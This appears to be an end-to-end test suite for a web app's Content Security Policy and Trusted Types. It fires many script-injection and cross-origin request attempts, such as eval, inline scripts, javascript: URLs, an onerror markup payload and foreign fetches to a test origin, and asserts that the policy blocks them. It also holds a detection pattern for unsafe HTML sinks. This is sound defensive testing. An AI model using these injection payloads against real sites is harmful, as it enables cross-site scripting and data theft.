"""The page's policy: nothing foreign is fetched, nothing injected runs, and the page works under any path.

Each attempt is really made, in the page and in the worker that Python lives in. It is made again under the
policy as browsers have it that know no Trusted Types, and where there is none: there it succeeds, so that it
is the policy which stops it.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest
from playwright.sync_api import Browser, Page, Worker, expect

from tests.e2e.built_modules import IMPORT_DOOR, sources_of
from tests.e2e.conftest import PATIENCE, ROOT, context_of
from tests.e2e.host import Foreign, files_of
from tests.e2e.hostile_strings import MARKUP
from tests.e2e.page_driver import PageDriver
from tests.e2e.watch import Watch, ready
from web.make.environment import node
from web.make.server import serving

POLICY = {
    "default-src": "'none'",
    "script-src": "'self' 'wasm-unsafe-eval'",
    "style-src": "'self'",
    "img-src": "'self' data: blob:",
    "font-src": "'self'",
    "manifest-src": "'self'",
    "connect-src": "'self'",
    "worker-src": "'self' blob:",
    "base-uri": "'none'",
    "form-action": "'none'",
    "object-src": "'none'",
    "require-trusted-types-for": "'script'",
    "trusted-types": "lit-html sakiyomi",
}


def frame_document(site: Path) -> str:
    """The document of the sandbox's frame."""
    (module,) = site.glob("v/*/src/engine/sandbox/frame.js")
    command = [str(node()), "--print", "require(process.argv[1]).FRAME", str(module)]
    return subprocess.run(command, check=True, capture_output=True, encoding="utf-8").stdout.rstrip("\n")


def broker_hash(site: Path) -> str:
    """The only inline script that runs, the broker of the sandbox's frame, as a policy names it."""
    (script,) = re.findall(r"<script>(.*?)</script>", frame_document(site), re.DOTALL)
    return f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'"


FRAME_POLICY = {
    "default-src": "'none'",
    "script-src": "{broker} 'wasm-unsafe-eval'",
    "worker-src": "blob:",
    "require-trusted-types-for": "'script'",
    "trusted-types": "sakiyomi",
    "base-uri": "'none'",
    "form-action": "'none'",
}


def test_the_sandbox_s_frame_has_one_script_and_its_own_policy(site: Path) -> None:
    document = frame_document(site)
    stated = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', document)
    assert stated
    rules = dict(rule.strip().split(" ", 1) for rule in stated[1].split(";"))
    script = FRAME_POLICY["script-src"].format(broker=broker_hash(site))
    assert rules == {**FRAME_POLICY, "script-src": script}
    assert document.index("Content-Security-Policy") < document.index("<script")
    markup = re.sub("<script>.*?</script>", "<script>", document, flags=re.DOTALL)
    assert re.findall("<([a-z]+)", markup) == ["html", "head", "meta", "meta", "title", "body", "script"]


def test_the_page_states_the_whole_policy(site: Path) -> None:
    page = (site / "index.html").read_text("utf-8")
    stated = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    assert stated
    rules = dict(rule.strip().split(" ", 1) for rule in stated[1].split(";") if rule.strip())
    script = f"{POLICY['script-src']} {broker_hash(site)}"
    assert rules == {**POLICY, "script-src": script}
    assert page.index("Content-Security-Policy") < page.index("<link")
    assert page.index("Content-Security-Policy") < page.index("<script")


def test_no_markup_of_ours_needs_what_the_policy_forbids(site: Path) -> None:
    page = (site / "index.html").read_text("utf-8")
    assert not re.search(r"<script(?![^>]*\bsrc=)", page)
    assert not re.search(r"\sstyle=|<style|\son\w+=|javascript:|importmap", page)


TYPES = "require-trusted-types-for"


class Attempt(NamedTuple):
    """An attack that the policy is to stop: it sets `harmed`, or sends a request to the foreign origin."""

    code: str
    """What is done. `foreign` is an address there, `mark` the text of a script, `markup` has one in it."""
    rule: str | None
    """The rule that refuses it; none where it is allowed and has no effect."""
    types: str | None = None
    """The rule of Trusted Types that refuses it first, in browsers that have them."""


ANYWHERE = {
    "a foreign request": Attempt(
        "const asked = new XMLHttpRequest(); asked.open('GET', foreign); asked.send()", "connect-src"
    ),
    "a foreign file for a cache": Attempt("await (await caches.open('x')).add(foreign)", "connect-src"),
    "a foreign stream": Attempt("new EventSource(foreign)", "connect-src"),
    "a foreign socket": Attempt("new WebSocket(foreign.replace('http', 'ws'))", "connect-src"),
    "a foreign module": Attempt("await import(foreign)", "script-src-elem"),
    "a module of data": Attempt("await import(`data:text/javascript,${mark}`)", "script-src-elem"),
    "a module out of a blob": Attempt(
        "await import(URL.createObjectURL(new Blob([mark], {type: 'text/javascript'})))", "script-src-elem"
    ),
    "eval": Attempt("eval(mark)", "script-src", TYPES),
    "eval by another name": Attempt("(0, eval)(mark)", "script-src", TYPES),
    "a function out of text": Attempt("new Function(mark)()", "script-src", TYPES),
    "an async one": Attempt("await (async () => {}).constructor(mark)()", "script-src", TYPES),
    "a timer of text": Attempt("setTimeout(mark)", "script-src", TYPES),
    "a repeated timer of text": Attempt(
        "const timer = setInterval(mark); setTimeout(() => clearInterval(timer), 50)", "script-src", TYPES
    ),
    "a worker of foreign scripts": Attempt(
        """const text = `try { importScripts('${foreign}') } catch {} postMessage(0)`;
        const made = new Worker(URL.createObjectURL(new Blob([text])));
        await new Promise(done => { made.onmessage = done })""",
        None,
        TYPES,
    ),
    "a worker of data": Attempt(
        "new Worker(`data:text/javascript,fetch('${foreign}')`)", "worker-src", TYPES
    ),
    "a worker that asks": Attempt(  # it may be made, as Python's is, but has the same policy
        """const text = `fetch('${foreign}').catch(() => {}).then(() => postMessage(0))`;
        const made = new Worker(URL.createObjectURL(new Blob([text])));
        await new Promise(done => { made.onmessage = done })""",
        None,
        TYPES,
    ),
}
POLICIES = {
    "a policy of one's own": Attempt(
        "trustedTypes.createPolicy('mine', {}); harmed = 1", None, "trusted-types"
    ),
    "a policy for all": Attempt(
        "trustedTypes.createPolicy('default', {}); harmed = 1", None, "trusted-types"
    ),
    "one by the name of ours": Attempt(
        "trustedTypes.createPolicy('sakiyomi', {}); trustedTypes.createPolicy('sakiyomi', {}); harmed = 1",
        None,
        "trusted-types",
    ),
}
IN_THE_PAGE = {
    "a foreign fetch": Attempt("await fetch(foreign)", "connect-src"),
    "a foreign beacon": Attempt("navigator.sendBeacon(foreign, 'x')", "connect-src"),
    "a foreign ping": Attempt("put(make('a', {href: '#/', ping: foreign})).click()", "connect-src"),
    "a foreign picture": Attempt("put(make('img', {src: foreign}))", "img-src"),
    "a foreign picture as ground": Attempt(
        "put(make('p')).style.cssText = `height: 9px; background: url(${foreign})`", "img-src"
    ),
    "a foreign film": Attempt("put(make('video', {src: foreign})).load()", "media-src"),
    "a foreign font": Attempt("await new FontFace('x', `url(${foreign})`).load()", "font-src"),
    "a foreign sheet": Attempt("put(make('link', {rel: 'stylesheet', href: foreign}))", "style-src-elem"),
    "a foreign thing ahead": Attempt("put(make('link', {rel: 'prefetch', href: foreign}))", "default-src"),
    "a foreign module ahead": Attempt(
        "put(make('link', {rel: 'modulepreload', href: foreign}))", "script-src-elem"
    ),
    "a foreign frame": Attempt("put(make('iframe', {src: foreign}))", "frame-src"),
    "a frame of data": Attempt(
        "put(make('iframe', {src: `data:text/html,<img src=${foreign}>`}))", "frame-src"
    ),
    "a foreign object": Attempt("put(make('object', {data: foreign}))", "object-src", TYPES),
    "a foreign plugin": Attempt("put(make('embed', {src: foreign}))", "object-src", TYPES),
    "a form": Attempt(
        "put(make('form', {action: foreign, target: 'x', method: 'post'})).submit()", "form-action"
    ),
    "another base": Attempt(
        "document.head.prepend(make('base', {href: foreign})); if (document.baseURI === foreign) harmed = 1",
        "base-uri",
    ),
    "a foreign script": Attempt("put(make('script', {src: foreign}))", "script-src-elem", TYPES),
    "a foreign script by attribute": Attempt(
        "const made = make('script'); made.setAttribute('src', foreign); put(made)", "script-src-elem", TYPES
    ),
    "an inline script": Attempt(
        "const made = make('script'); made.append(mark); put(made)", "script-src-elem", TYPES
    ),
    "an inline script as text": Attempt("put(make('script', {textContent: mark}))", "script-src-elem", TYPES),
    "an inline module": Attempt(
        "const made = make('script', {type: 'module'}); made.append(mark); put(made)",
        "script-src-elem",
        TYPES,
    ),
    "a map of modules": Attempt(
        """const made = make('script', {type: 'importmap'});
        made.append(JSON.stringify({imports: {x: foreign}}));
        put(made);
        await import('x')""",
        "script-src-elem",
        TYPES,
    ),
    "a script as a link": Attempt(
        "put(make('a', {href: `javascript:void(${mark})`})).click()", "script-src-elem"
    ),
    "a script as a place": Attempt("location.href = `javascript:void(${mark})`", "script-src-elem"),
    "a script as a window": Attempt(
        "open(`javascript:void(${mark.replace('globalThis', 'opener')})`)", "script-src-elem"
    ),
    "a script as a frame": Attempt(
        "put(make('iframe', {src: `javascript:void(${mark.replace('globalThis', 'parent')})`}))",
        "script-src-elem",
    ),
    "a script as a form's end": Attempt(
        "put(make('form', {action: `javascript:void(${mark})`})).submit()", "form-action"
    ),
    "a handler": Attempt(
        "const made = put(make('i')); made.setAttribute('onclick', mark); made.click()",
        "script-src-attr",
        TYPES,
    ),
    "markup into an element": Attempt("put(make('b')).innerHTML = markup", "script-src-attr", TYPES),
    "markup over an element": Attempt("put(make('b')).outerHTML = markup", "script-src-attr", TYPES),
    "markup beside an element": Attempt(
        "document.body.insertAdjacentHTML('beforeend', markup)", "script-src-attr", TYPES
    ),
    "markup unsafely": Attempt("put(make('b')).setHTMLUnsafe(markup)", "script-src-attr", TYPES),
    "markup as a fragment": Attempt(
        "put(document.createRange().createContextualFragment(markup))", "script-src-attr", TYPES
    ),
    "markup from a parser": Attempt(
        "put(new DOMParser().parseFromString(markup, 'text/html').body.firstChild)", "script-src-attr", TYPES
    ),
    "markup in a frame": Attempt(
        """const made = put(make('iframe', {srcdoc: markup.replace('globalThis', 'parent')}));
        await new Promise(done => { made.onload = done })""",
        None,  # none of the page's own: the frame has inherited them all
        TYPES,
    ),
    "an inline style": Attempt(
        """const made = make('style');
        made.append(':root { --harmed: 1 }');
        put(made);
        if (getComputedStyle(document.documentElement).getPropertyValue('--harmed')) harmed = 1""",
        "style-src-elem",
    ),
    "a style by attribute": Attempt(
        "const made = put(make('i')); made.setAttribute('style', 'top: 0'); if (made.style.top) harmed = 1",
        "style-src-attr",
    ),
    "a document written anew": Attempt(  # the last one: there is no page any more, where it is not refused
        "document.write(markup); await new Promise(done => { onload = done; document.close() })", None, TYPES
    ),
}
TRY = """async ([foreign, patience, refused]) => {
    const mark = "globalThis.harmed = 1";
    const markup = `<img src="x" onerror="${mark}">`;
    const make = (name, more) => Object.assign(document.createElement(name), more);
    const put = made => document.body.appendChild(made);
    const violations = [];
    const note = ({effectiveDirective}) => violations.push(effectiveDirective);
    const place = globalThis.document ?? globalThis;
    place.addEventListener("securitypolicyviolation", note);
    await new Promise(done => setTimeout(done)); // to where the tools that drive the browser have no say
    try {
        %s
    } catch {
        // It was refused at once.
    }
    const end = performance.now() + patience;
    while (refused && violations.length === 0 && performance.now() < end)
        await new Promise(done => setTimeout(done, 5));
    place.removeEventListener("securitypolicyviolation", note);
    return violations;
}"""
REFUSED = r"Content Security Policy|Trusted|another origin|failed \(|Failed to|WebSocket"


@contextlib.contextmanager
def under(law: str, site: Path, folder: Path, browser: Browser, node: pytest.Collector) -> Iterator[Page]:
    """The page with a part of its policy removed; `law` is a regular expression of that part."""
    copy = shutil.copytree(site, folder / "site")
    index = copy / "index.html"
    index.write_text(re.sub(law, "", index.read_text("utf-8"), count=1), "utf-8")
    context = context_of(browser, node)
    with serving(copy) as address:
        page = context.new_page()
        page.goto(address)
        yield ready(page)
    context.close()


@pytest.fixture(scope="module")
def elder(
    site: Path, tmp_path_factory: pytest.TempPathFactory, browser: Browser, request: pytest.FixtureRequest
) -> Iterator[Page]:
    """The page as in a browser without Trusted Types."""
    folder = tmp_path_factory.mktemp("elder")
    with under('; require-trusted-types-for[^"]*', site, folder, browser, request.node) as page:
        yield page


@pytest.fixture(scope="module")
def lawless(
    site: Path, tmp_path_factory: pytest.TempPathFactory, browser: Browser, request: pytest.FixtureRequest
) -> Iterator[Page]:
    """The page without any policy."""
    folder = tmp_path_factory.mktemp("lawless")
    with under("<meta http-equiv=.Content-Security-Policy.*", site, folder, browser, request.node) as page:
        yield page


def attempt(place: Page | Worker, code: str, foreign: Foreign, refused: bool = True) -> list[str]:
    """Make an attempt; returns the rules that it was reported to break."""
    found: list[str] = place.evaluate(TRY % code, [foreign.elsewhere(), PATIENCE, refused])
    return found


def assert_refused(place: Page | Worker, code: str, rule: str | None, foreign: Foreign) -> None:
    found = attempt(place, code, foreign, rule is not None)
    assert found[:1] == ([rule] if rule else [])
    assert place.evaluate("() => globalThis.harmed ?? null") is None
    assert not foreign.asked


@pytest.mark.parametrize("name", [*ANYWHERE, *IN_THE_PAGE, *POLICIES])
def test_the_policy_refuses_in_the_page(
    warm_page: Page, warm_watch: Watch, foreign: Foreign, name: str
) -> None:
    warm_watch.expect(REFUSED)
    code, rule, types = (ANYWHERE | IN_THE_PAGE | POLICIES)[name]
    assert_refused(warm_page, code, types or rule, foreign)
    expect(warm_page.get_by_role("grid")).to_be_visible()


@pytest.mark.parametrize("name", [*ANYWHERE, *POLICIES])
def test_the_policy_refuses_in_the_worker(
    warm_page: Page, warm_watch: Watch, foreign: Foreign, name: str
) -> None:
    warm_watch.expect(REFUSED)
    code, rule, types = (ANYWHERE | POLICIES)[name]
    assert_refused(warm_page.workers[0], code, types or rule, foreign)


@pytest.mark.parametrize(
    "name",
    [  # where there are Trusted Types, the same rule refuses some
        pytest.param(name, marks=[] if made.types else [pytest.mark.slow])
        for name, made in (ANYWHERE | IN_THE_PAGE).items()
    ],
)
def test_without_trusted_types_the_rest_of_the_policy_refuses_it(
    elder: Page, foreign: Foreign, name: str
) -> None:
    code, rule, _ = (ANYWHERE | IN_THE_PAGE)[name]
    assert_refused(elder, code, rule, foreign)


@pytest.mark.slow
@pytest.mark.parametrize("name", [*ANYWHERE, *POLICIES])
def test_without_a_policy_the_attack_succeeds_in_the_worker(
    lawless: Page, foreign: Foreign, name: str
) -> None:
    code, *_ = (ANYWHERE | POLICIES)[name]
    assert_happens(lawless.workers[0], code, foreign)


@pytest.mark.slow
@pytest.mark.parametrize("name", [*ANYWHERE, *POLICIES, *IN_THE_PAGE])
def test_without_a_policy_the_attack_succeeds(lawless: Page, foreign: Foreign, name: str) -> None:
    code, *_ = (ANYWHERE | POLICIES | IN_THE_PAGE)[name]
    assert_happens(lawless, code, foreign)


def assert_happens(place: Page | Worker, code: str, foreign: Foreign) -> None:
    attempt(place, code, foreign, refused=False)
    look = """() => new Promise(done => setTimeout(() => {
        done("harmed" in globalThis);
        delete globalThis.harmed;
    }))"""
    assert any(foreign.asked or place.evaluate(look) for _ in range(1000)), (
        "then nothing shows who refused it"
    )


@pytest.mark.slow
def test_the_worker_takes_in_no_file_that_is_not_of_this_version(
    page: Page, address: str, watch: Watch, foreign: Foreign
) -> None:
    """What it takes for a request of Python's: it is given up for that, and another takes its place."""
    watch.expect(REFUSED)
    ready(PageDriver(page, address).visit().page)
    with page.expect_worker():
        page.workers[0].evaluate("address => { fetch(address) }", foreign.elsewhere())
    ready(page)
    assert not foreign.asked


@pytest.fixture
def open_page(open_site: Path, browser: Browser, request: pytest.FixtureRequest) -> Iterator[Page]:
    """The page, with functions of its own exported."""
    context = context_of(browser, request.node)
    with serving(open_site) as address:
        page = context.new_page()
        page.goto(address)
        yield page
    context.close()


def test_the_page_s_own_trusted_types_are_for_its_workers_alone(open_page: Page, foreign: Foreign) -> None:
    address = open_page.url
    refused = [
        foreign.elsewhere(),
        "data:text/javascript,harmed=1",
        "blob:http://localhost:1/1",
        f"{address}x/sw.js",
        f"{address}sw.js?x",
    ]
    let_through = open_page.evaluate(
        """async ([address, refused]) => {
            const {trustedAddress} = await IMPORT_DOOR;
            const trusted = address => {
                try { return trustedAddress(address).constructor.name } catch (error) { return error.name }
            };
            const blob = URL.createObjectURL(new Blob([""]));
            return [blob, `${address}sw.js`, ...refused].map(trusted);
        }""".replace("IMPORT_DOOR", IMPORT_DOOR),
        [address, refused],
    )
    assert let_through == ["TrustedScriptURL"] * 2 + ["TypeError"] * len(refused)


def test_the_address_of_a_worker_is_revoked_once_it_runs(page: Page, address: str) -> None:
    page.add_init_script(
        """window.noted = {createObjectURL: [], revokeObjectURL: []};
        for (const [name, addresses] of Object.entries(noted)) {
            const plain = URL[name];
            URL[name] = given => {
                const made = plain(given);
                addresses.push(made ?? given);
                return made;
            };
        }"""
    )
    ready(PageDriver(page, address).visit().page)
    made, revoked = page.evaluate("() => Object.values(noted)")
    assert len(made) == 1
    assert revoked == made


# Markup

WRITERS = re.compile(
    r"\b(?:innerHTML|outerHTML|insertAdjacentHTML|setHTMLUnsafe|srcdoc|createContextualFragment|parseFromString"
    r"|unsafeHTML|unsafeSVG|unsafeStatic|document\.write)\b"
)


def test_no_script_of_ours_writes_markup(site: Path) -> None:
    """Only lit-html does, from the templates in our scripts; no directive for raw markup is in the site.

    The document of the sandbox's frame is one text that the policy `sakiyomi` knows.
    """
    ours = [*(ROOT / "web" / "src").rglob("*.ts"), ROOT / "web" / "sw.js"]
    writers = [path for path in ours if WRITERS.search(path.read_text("utf-8"))]
    assert [path.name for path in writers] == ["sandbox.ts"]
    code = re.sub(r"^\s*//.*$", "", writers[0].read_text("utf-8"), flags=re.MULTILINE)
    assert WRITERS.findall(code) == ["srcdoc"]
    assert "text = await trustedFrame();" in code
    assert "srcdoc = text;" in code
    files = files_of(site)
    sources = [Path(source) for script in files for source in sources_of(files, script)]
    lit = {source.name for source in sources if "lit-html" in source.parts}
    assert "lit-html.js" in lit
    assert not {name for name in lit if name.startswith(("unsafe", "static"))}


NOTE_MARKUP = """() => {
    window.written = [];
    const note = (owner, name) => {
        const {set, value} = Object.getOwnPropertyDescriptor(owner.prototype, name);
        const noted = act => function (...given) {
            window.written.push(given.join());
            return act.apply(this, given);
        };
        Object.defineProperty(owner.prototype, name, set ? {set: noted(set)} : {value: noted(value)});
    };
    for (const name of ["innerHTML", "outerHTML", "insertAdjacentHTML"]) note(Element, name);
    note(Document, "write");
    note(Range, "createContextualFragment");
    note(DOMParser, "parseFromString");
}"""


@pytest.mark.slow
def test_nothing_from_an_address_or_the_clipboard_is_written_as_markup(page: Page, address: str) -> None:
    page.add_init_script(f"({NOTE_MARKUP})()")
    driver = PageDriver(page, address).visit()
    ready(page)
    for markup in MARKUP:
        text = f"{markup} told apart"
        for words in ("#/othello/{}", "#/othello?second=minimax {}", "#/{}", "#/arena?a={}"):
            page.evaluate("words => { location.hash = words }", words.format(text))
            expect(driver.alert.or_(page.locator('[aria-invalid="true"]')).first).to_be_visible()
        page.evaluate("words => { location.hash = words }", "#/othello?second=human")
        page.get_by_role("button", name="Copy and paste").click()
        page.get_by_role("textbox", name="Paste a game here").fill(text)
        driver.button("Open").click()
        expect(driver.alert).to_have_count(1)
        page.get_by_role("button", name="Copy and paste").click()
    written = page.evaluate("() => window.written")
    assert written  # lit-html's templates
    assert [text for text in written if "told apart" in text] == []


def test_all_but_the_page_itself_is_of_one_version_and_fetched_once(page: Page, address: str) -> None:
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    ready(PageDriver(page, address).visit().page)
    rest = [url.removeprefix(address) for url in asked if url.startswith(address)]
    versioned = [name for name in rest if name.startswith("v/")]
    assert len({name.split("/")[1] for name in versioned}) == 1
    assert set(rest) - set(versioned) <= {"", "sw.js", "manifest.webmanifest"}
    files = [name for name in versioned if "/icons/" not in name]  # a browser may fetch icons more than once
    assert sorted(files) == sorted(set(files))
